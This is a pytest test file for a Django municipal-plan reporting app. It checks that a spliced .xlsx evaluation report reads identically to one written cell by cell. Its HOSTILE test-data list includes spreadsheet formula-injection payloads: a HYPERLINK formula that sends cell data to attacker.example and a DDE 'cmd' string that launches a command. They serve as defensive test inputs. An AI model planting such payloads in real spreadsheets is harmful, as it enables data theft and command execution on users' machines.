"""The .xlsx report spliced from kept sheet XML reads exactly as one written cell by cell.

The report's rows are kept per policy as finished SpreadsheetML (`report_part`) and spliced
into a workbook XlsxWriter writes without them (`report_workbook_of_parts`). The reference
here is the writer it replaced: the same skeleton, every cell written by XlsxWriter through
`xlsx_write_row`. Both files are read with openpyxl and compared cell by cell (value, type,
font, fill, border, alignment, number format, quote prefix) and sheet by sheet (used range,
freeze panes, print area and titles, page setup, page header and footer, column widths): on
the real plan with hostile text, and on made-up rows with any text Hypothesis can think of.
"""

import io
import os
import re
import shutil
import subprocess
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from indicators.models import Indicator, IndicatorResult
from plans.models import EntryStatus, Plan
from plans.reports.evaluation import plan_evaluation
from plans.reports.exports import (
    HEADER_ROWS,
    PROJECT_FORMATS,
    PROJECT_WRAP_WIDTHS,
    ReportRows,
    indicator_formats,
    indicator_wrap_widths,
    period_formats,
    period_wrap_widths,
    report_has_period,
    report_part_of_rows,
    report_rows,
    report_skeleton,
    report_workbook,
    report_workbook_of_parts,
    report_years,
)
from plans.spreadsheet_cells import xlsx_write_row
from projects.models import Project, ProjectProgress

YEAR = 2024
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"詳細")',
    "+1件増",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tタブ",
    "#N/A",
    "<b>太字</b> & 'quote' \"double\"",
    "_x0041_ は Excel の書き方",
    "  前後の空白  ",
    "改行\r\nと\x0bと\x0cと\x1f",  # NUL: PostgreSQL refuses it, Hypothesis tries it below
    "絵文字🎌" * 3,
]


def cell_by_cell(plan, fiscal_year, rows):
    """The report as it was written before: each cell by XlsxWriter (the reference)."""
    buffer = io.BytesIO()
    indicators = [row for part in rows for row in part.indicators]
    projects = [row for part in rows for row in part.projects]
    period = [row for part in rows for row in part.period]
    final = report_has_period(plan, fiscal_year)
    workbook, styles, (indicator_sheet, project_sheet, *period_sheet) = report_skeleton(
        buffer, plan, fiscal_year, len(indicators), len(projects), len(period) if final else None
    )
    year_count = len(report_years(plan, fiscal_year))
    for number, (places, values) in enumerate(period, start=HEADER_ROWS):
        count = len(plan.fiscal_years)
        formats = [styles(*format_) for format_ in period_formats(places, count)]
        xlsx_write_row(period_sheet[0], number, values, formats, period_wrap_widths(count))
    for number, (places, values) in enumerate(indicators, start=HEADER_ROWS):
        formats = [styles(*format_) for format_ in indicator_formats(places, year_count)]
        widths = indicator_wrap_widths(year_count)
        xlsx_write_row(indicator_sheet, number, values, formats, widths)
    for number, values in enumerate(projects, start=HEADER_ROWS):
        formats = [styles(*f) for f in PROJECT_FORMATS]
        xlsx_write_row(project_sheet, number, values, formats, PROJECT_WRAP_WIDTHS)
    workbook.close()
    return buffer.getvalue()


def spliced(plan, fiscal_year, rows):
    year_count = len(report_years(plan, fiscal_year))
    parts = [report_part_of_rows(part, year_count) for part in rows]
    return report_workbook_of_parts(plan, fiscal_year, parts)


def cell_reading(cell):
    return (
        cell.value,
        cell.data_type,
        cell.number_format,
        cell.quotePrefix,
        repr(cell.font),
        repr(cell.fill),
        repr(cell.border),
        repr(cell.alignment),
        repr(cell.protection),
    )


def sheet_reading(sheet):
    return {
        "range": sheet.dimensions,
        "size": (sheet.max_row, sheet.max_column),
        "freeze": sheet.freeze_panes,
        "print area": sheet.print_area,
        "print titles": sheet.print_title_rows,
        "page setup": repr(sheet.page_setup),
        "fit to page": sheet.sheet_properties.pageSetUpPr.fitToPage,
        "print options": repr(sheet.print_options),
        "margins": repr(sheet.page_margins),
        "header": sheet.oddHeader.center.text,
        "footer": sheet.oddFooter.center.text,
        "widths": {key: dim.width for key, dim in sheet.column_dimensions.items()},
        "heights": {key: dim.height for key, dim in sheet.row_dimensions.items()},
        "merged": sheet.merged_cells.ranges,
    }


def assert_same_reading(expected, actual):
    expected, actual = load_workbook(io.BytesIO(expected)), load_workbook(io.BytesIO(actual))
    assert expected.sheetnames == actual.sheetnames
    assert expected.sheetnames[:2] == ["成果指標", "事業"]
    for old, new in zip(expected.worksheets, actual.worksheets, strict=True):
        assert sheet_reading(old) == sheet_reading(new)
        old_rows, new_rows = list(old.iter_rows()), list(new.iter_rows())
        assert len(old_rows) == len(new_rows)
        for old_row, new_row in zip(old_rows, new_rows, strict=True):
            for old_cell, new_cell in zip(old_row, new_row, strict=True):
                assert cell_reading(old_cell) == cell_reading(new_cell), old_cell.coordinate


@pytest.fixture
def hostile_evaluation(seed_results):
    """The real plan, with hostile text wherever a person types and every kind of value."""
    plan = seed_results
    plan.title = "R&G協働推進計画 <案>"
    plan.save()
    indicators = list(Indicator.objects.filter(policy__plan=plan).order_by("pk"))
    for indicator, text in zip(indicators, HOSTILE, strict=False):
        indicator.name = text[:200]
        indicator.save()
        IndicatorResult.objects.filter(indicator=indicator, fiscal_year=YEAR).update(analysis=text)
    IndicatorResult.objects.filter(indicator=indicators[0], fiscal_year=YEAR).update(
        value=Decimal("-5")
    )
    for project, text in zip(Project.objects.filter(plan=plan), HOSTILE, strict=False):
        ProjectProgress.objects.create(
            project=project,
            fiscal_year=YEAR,
            activities=text,
            issues=text[::-1],
            grade="B",
            outlook="expand",
            budget_amount=1200,
            settlement_amount=987654321,
            status=EntryStatus.APPROVED,
        )
    return plan_evaluation(plan, YEAR)


@pytest.mark.django_db
def test_the_real_plan_reads_as_written_cell_by_cell(hostile_evaluation):
    plan, years = hostile_evaluation.plan, report_years(hostile_evaluation.plan, YEAR)
    rows = [report_rows(policy, YEAR, years) for policy in hostile_evaluation.policies]
    counts = sum(len(part.indicators) for part in rows), sum(len(part.projects) for part in rows)
    assert counts == (7, 30)
    assert_same_reading(cell_by_cell(plan, YEAR, rows), report_workbook(hostile_evaluation))


@pytest.mark.django_db
def test_the_final_summarys_period_sheet_reads_as_written_cell_by_cell(hostile_evaluation):
    plan = hostile_evaluation.plan
    final_year = plan.last_fiscal_year
    evaluation = plan_evaluation(plan, final_year)
    years = report_years(plan, final_year)
    rows = [report_rows(policy, final_year, years, period=True) for policy in evaluation.policies]
    assert sum(len(part.period) for part in rows) == 7
    written = report_workbook(evaluation)
    assert load_workbook(io.BytesIO(written)).sheetnames == ["成果指標", "事業", "計画期間の推移"]
    assert_same_reading(cell_by_cell(plan, final_year, rows), written)


def made_up_plan():
    """An unsaved plan: the rows need no database."""
    return Plan(
        title="架空市協働推進計画",
        first_fiscal_year=2021,
        last_fiscal_year=2025,
        baseline_fiscal_year=2020,
    )


# openpyxl (the reader of this comparison) reads a shared string "x005F_" as "" although no
# escape starts it (no "_" in front); Excel and our own reader show the text. The reference
# writer puts every text in the shared strings, the new one writes it inline and is read back
# right, so such texts cannot be compared through openpyxl; "_x0041_"-style escapes are still
# covered by the hostile fixture above.
OPENPYXL_MISREAD = re.compile(r"(?<!_)x[0-9A-Fa-f]{4}_")
texts = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40).filter(
    lambda text: not OPENPYXL_MISREAD.search(text)
)
values = st.one_of(
    st.none(),
    texts,
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False, width=64),
)


def row_of(values_strategy, length):
    return st.lists(values_strategy, min_size=length, max_size=length)


INDICATOR_COLUMNS = len(indicator_formats(0, 3))  # FY2021-2023
made_up_rows = st.lists(
    st.builds(
        ReportRows,
        st.lists(st.tuples(st.integers(0, 4), row_of(values, INDICATOR_COLUMNS)), max_size=4),
        st.lists(row_of(values, len(PROJECT_FORMATS)), max_size=4),
    ),
    max_size=3,
)


@given(made_up_rows)
def test_any_rows_read_as_written_cell_by_cell(rows):
    plan = made_up_plan()
    assert_same_reading(cell_by_cell(plan, 2023, rows), spliced(plan, 2023, rows))


def test_a_text_longer_than_a_cell_holds_is_cut_as_xlsxwriter_cuts_it():
    plan = made_up_plan()
    long_text = "あ" * 32765 + "🎌🎌"  # the second flag ends past 32,767 UTF-16 units
    rows = [ReportRows([], [[long_text, *[None] * (len(PROJECT_FORMATS) - 1)]])]
    new = spliced(plan, 2023, rows)
    assert_same_reading(cell_by_cell(plan, 2023, rows), new)
    assert load_workbook(io.BytesIO(new))["事業"]["A4"].value == "あ" * 32765 + "🎌"


@pytest.mark.slow
@pytest.mark.django_db
def test_libreoffice_opens_the_report(hostile_evaluation, tmp_path):
    """LibreOffice reads the spliced file: its CSV of the first sheet has the rows' text."""
    soffice = shutil.which("soffice")
    if not soffice:
        # As the browser tests: `make test` on a fresh machine says what it left out; CI
        # (.ci/run) installs LibreOffice and sets REQUIRE_LIBREOFFICE=1, where a skip would fail.
        if os.environ.get("REQUIRE_LIBREOFFICE") == "1":
            pytest.fail("REQUIRE_LIBREOFFICE=1 but LibreOffice (soffice) is missing")
        pytest.skip("LibreOffice がないため飛ばします: apt-get install libreoffice-calc-nogui")
    path = tmp_path / "report.xlsx"
    path.write_bytes(report_workbook(hostile_evaluation))
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path),
         str(path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    text = (tmp_path / "report.csv").read_text("utf-8")
    assert "R&G協働推進計画 <案> 2024年度 進捗状況報告書" in text
    assert "<b>太字</b> & 'quote'" in text
    assert "@SUM(1+1)" in text and "=HYPERLINK" in text
